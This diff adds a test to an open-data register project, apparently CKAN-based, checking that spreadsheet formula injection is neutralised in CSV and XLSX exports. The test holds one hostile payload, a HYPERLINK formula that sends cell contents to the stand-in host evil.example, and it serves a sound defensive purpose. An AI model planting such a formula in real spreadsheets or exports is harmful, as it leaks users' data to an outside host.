@@ -218,3 +218,34 @@ def test_cli_export_and_publish(cli, held, tmp_path, ckan_config, monkeypatch):
     assert "Register of datasets created: reiestr-naboriv-danykh, 3 dataset(s)" in published.output
     again = cli.invoke(ckan, ["lutsk-charter", "register", "publish"])
     assert "Register of datasets updated" in again.output
+
+
+def test_a_formula_in_a_title_stays_text_in_both_downloads(app):
+    """Issue 11 item 5: ``=HYPERLINK(...)`` must not become a live formula (OWASP CSV injection)."""
+    body = LutskOrganization(title="@Орган")
+    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Натисніть тут")'
+    LutskDataset(
+        owner_org=body["id"],
+        name="formula",
+        title=attack,
+        maintainer="+380 Іваненко",
+        update_frequency="once a month",
+    )
+    csv_rows = list(
+        csv.DictReader(io.StringIO(app.get("/dataset-register.csv").get_data().decode("utf-8-sig")))
+    )
+    (row,) = csv_rows
+    assert row["title"] == "'" + attack  # readable, and no spreadsheet runs it
+    assert row["publisherPrefLabel"] == "'@Орган"
+    assert row["contactPointFn"] == "'+380 Іваненко"
+    assert row["accrualPeriodicity"] == "once a month"  # the code, for machines
+    assert row["accrualPeriodicityLabel"] == "Щомісяця"  # and in words
+
+    sheet = load_workbook(io.BytesIO(app.get("/dataset-register.xlsx").get_data())).active
+    header = [c.value for c in sheet[1]]
+    title = sheet.cell(row=2, column=header.index("title") + 1)
+    assert title.value == attack
+    assert title.data_type == "s"
+    assert title.quotePrefix
+    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
+    assert sheet.freeze_panes == "A2"
